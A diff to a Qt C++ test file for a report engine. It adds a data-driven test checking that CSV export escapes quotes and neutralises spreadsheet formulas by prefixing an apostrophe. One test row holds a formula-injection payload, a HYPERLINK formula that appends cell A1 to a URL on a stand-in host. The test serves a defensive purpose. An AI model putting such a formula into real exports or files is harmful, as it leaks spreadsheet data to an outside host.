@@ -301,6 +301,7 @@ private slots:
     void missingDataSource();
     void dataSourceIsReadWithoutKeepingALock();
     void csvRowsEqualDataSourceRows();
+    void csvQuotesValues_data();
     void csvQuotesValues();
     void pdfHasThePagesOfTheLayout();
     void printingUsesTheSameLayout();
@@ -734,10 +735,24 @@ void TestReportEngine::csvRowsEqualDataSourceRows()
     QCOMPARE(rows.mid(1), expected);
 }
 
+void TestReportEngine::csvQuotesValues_data()
+{
+    QTest::addColumn<QString>("lastName");
+    QTest::addColumn<QString>("mark"); // what comes before the name's cell as shown
+
+    QTest::newRow("quotes and a comma") << R"(O"Hara, "Jr")"
+                                        << "";
+    // The name cell starts with the last name: a spreadsheet must not run it.
+    QTest::newRow("a formula") << R"c(=HYPERLINK("http://x.example/?"&A1,"Click"))c"
+                               << "'";
+}
+
 void TestReportEngine::csvQuotesValues()
 {
+    QFETCH(QString, lastName);
+    QFETCH(QString, mark);
     ReportData data = contactRows(1);
-    data.rows[0][fieldIndex(ContactField::LastName)] = QStringLiteral("O\"Hara, \"Jr\"");
+    data.rows[0][fieldIndex(ContactField::LastName)] = lastName;
     data.rows[0][fieldIndex(ContactField::Address)] = QStringLiteral("1 Main St");
     const auto report = makeReport(sourceFile(QStringLiteral("data/addresslist.rpt")), data);
     QVERIFY2(report, qPrintable(report.error()));
@@ -748,7 +763,8 @@ void TestReportEngine::csvQuotesValues()
     bool crlf = false;
     const QList<QStringList> rows = parseCsv(readAll(csv), &crlf);
     QCOMPARE(rows.size(), 2);
-    QCOMPARE(rows.at(1).value(0), report->cellText(0, 0));
+    QVERIFY(report->cellText(0, 0).startsWith(lastName));
+    QCOMPARE(rows.at(1).value(0), mark + report->cellText(0, 0));
     QCOMPARE(rows.at(1).value(1), report->cellText(0, 1)); // holds line breaks
     QVERIFY(report->cellText(0, 1).contains(QLatin1Char('\n')));
 }
